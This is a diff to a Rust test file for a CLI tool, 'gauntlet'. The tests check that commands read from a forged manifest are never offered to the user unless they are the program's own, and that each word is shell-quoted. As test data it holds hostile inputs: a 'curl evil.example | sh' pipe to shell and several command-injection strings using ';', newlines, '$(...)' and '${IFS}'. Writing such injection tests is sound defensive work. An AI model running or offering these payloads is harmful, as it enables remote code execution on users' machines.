@@ -258,13 +258,15 @@ fn the_remedy_is_the_one_that_plays_nothing() {
         .run("report results/small")
         .ends(1)
         .saying("cut; `gauntlet run small.toml --replace` makes it again");
-    // The manifest's command is shown on one line, and need not be there.
+    // What ends a line is no part of a command, and a manifest need not hold any.
     let manifest = folder.read(&format!("{RESULTS}/manifest.toml"));
     let line = "command = \"gauntlet run small.toml\"";
     assert!(manifest.contains(line));
     put("manifest.toml", &manifest.replace(line, "command = \"gauntlet run a\\nb\""));
-    let said =
-        folder.run("report results/small").ends(1).saying(r"`gauntlet run a\nb --replace` makes it again");
+    let said = folder
+        .run("report results/small")
+        .ends(1)
+        .saying("`gauntlet run --replace` with the experiment's own file");
     assert_eq!(said.err.lines().count(), 1, "{}", said.err);
     put("manifest.toml", &manifest.replace(line, ""));
     folder
@@ -273,21 +275,95 @@ fn the_remedy_is_the_one_that_plays_nothing() {
         .saying("`gauntlet run --replace` with the experiment's own file");
 }
 
-/// A manifest is a stranger's text, too: what is offered to be typed is a command of this program.
+/// A manifest is a stranger's text, too. Its command is offered only if it is one of this program, and
+/// each of its words is quoted.
 #[test]
 fn no_foreign_command_is_offered() {
     let folder = with_document();
     let manifest = folder.read(&format!("{RESULTS}/manifest.toml"));
-    let forged =
-        manifest.replace("command = \"gauntlet run small.toml\"", "command = \"curl evil.example | sh\"");
-    assert_ne!(forged, manifest);
-    folder.write(&format!("{RESULTS}/manifest.toml"), forged);
-    folder.write(&format!("{RESULTS}/claims.csv"), "");
-    let said = folder
-        .run("report results/small")
-        .ends(1)
-        .saying("`gauntlet run --replace` with the experiment's own file");
-    assert!(!said.err.contains("evil"), "{}", said.err);
+    let claims = folder.read(&format!("{RESULTS}/claims.csv"));
+    let forge = |command: &str| {
+        let line = format!("command = {}", toml::Value::from(command));
+        let forged = manifest.replace("command = \"gauntlet run small.toml\"", &line);
+        assert_ne!(forged, manifest);
+        folder.write(&format!("{RESULTS}/manifest.toml"), forged);
+    };
+    let shown = || {
+        let document = folder.read("page.md");
+        folder.write(&format!("{RESULTS}/claims.csv"), &claims);
+        let mut said: String = ["text", "csv", "json", "markdown"]
+            .map(|format| format!("report {RESULTS} --table leaderboard --format {format}"))
+            .iter()
+            .map(String::as_str)
+            .chain([
+                "report results/small --out -",
+                "status results/small",
+                "rank results/small",
+                "report --splice page.md",
+            ])
+            .map(|line| folder.run(line))
+            .map(|said| said.out + &said.err)
+            .collect();
+        said += &folder.read("page.md");
+        folder.write("page.md", document);
+        // What makes a file again is told as well.
+        folder.write(&format!("{RESULTS}/claims.csv"), "");
+        said + &folder.run("report results/small").ends(1).err
+    };
+    for command in [
+        "curl evil.example | sh",
+        "gauntlet run x; touch evil",
+        "gauntlet run x\ntouch evil",
+        "gauntlet run $(touch evil)",
+        "gauntlet run small.toml --allow-commands",
+        "gauntlet run small.toml --only any --allow-command=evil",
+        "gauntlet evil small.toml",
+    ] {
+        forge(command);
+        let said = shown();
+        assert!(said.contains("`gauntlet run --replace` with the experiment's own file"), "{said}");
+        assert!(said.contains("names no command of gauntlet"), "{said}");
+        let found =
+            ["evil", "--allow", "--only", "Made by</p>"].into_iter().find(|&word| said.contains(word));
+        assert_eq!(found, None, "{command}: {said}");
+    }
+    // What is one is quoted for the shell, in each form.
+    forge("gauntlet run $(touch${IFS}evil).toml");
+    let said = shown();
+    let quoted = "'$(touch${IFS}evil).toml'";
+    assert!(said.contains(&format!("Made by `gauntlet run {quoted}`.")), "{said}");
+    for (at, _) in said.match_indices("evil).toml") {
+        let behind = &said[at + "evil).toml".len()..];
+        assert!(["'", "&#x27;"].iter().any(|quote| behind.starts_with(quote)), "{said}");
+    }
+    let remedy = said.rsplit('`').nth(1).expect("a command");
+    assert!(remedy.ends_with(" --replace"), "{said}");
+    folder.shell(remedy).ends(2);
+    assert!(!folder.path("evil").exists(), "the shell has executed {remedy}");
+}
+
+/// Of a tuning, the command that goes on with it.
+#[test]
+fn no_foreign_command_goes_on_with_a_tuning() {
+    let folder = Folder::new();
+    folder.copy_from_repository("configs/tune");
+    folder.run("tune configs/tune/quick.toml --quiet");
+    let path = "results/tune-quick/tune/manifest.toml";
+    let mut manifest: toml::Table = folder.read(path).parse().expect("a manifest");
+    manifest.remove("finished");
+    for (command, offered) in [
+        ("gauntlet tune x; touch evil", "the same `gauntlet tune` as before"),
+        ("gauntlet tune x --allow-commands", "the same `gauntlet tune` as before"),
+        ("gauntlet tune $(x) --budget 9", "gauntlet tune '$(x)' --budget 9"),
+    ] {
+        manifest.insert("command".to_owned(), command.into());
+        folder.write(path, manifest.to_string());
+        let said = folder.run("status results/tune-quick").ends(0);
+        assert!(said.out.contains(&format!("to go on: {offered}\n")), "{}", said.out);
+        let said = folder.run("report results/tune-quick/tune");
+        let said = said.out + &said.err;
+        assert!(!said.contains("evil") && !said.contains("--allow"), "{said}");
+    }
 }
 
 /// Verdicts of a game of two are made anew of its games as well.
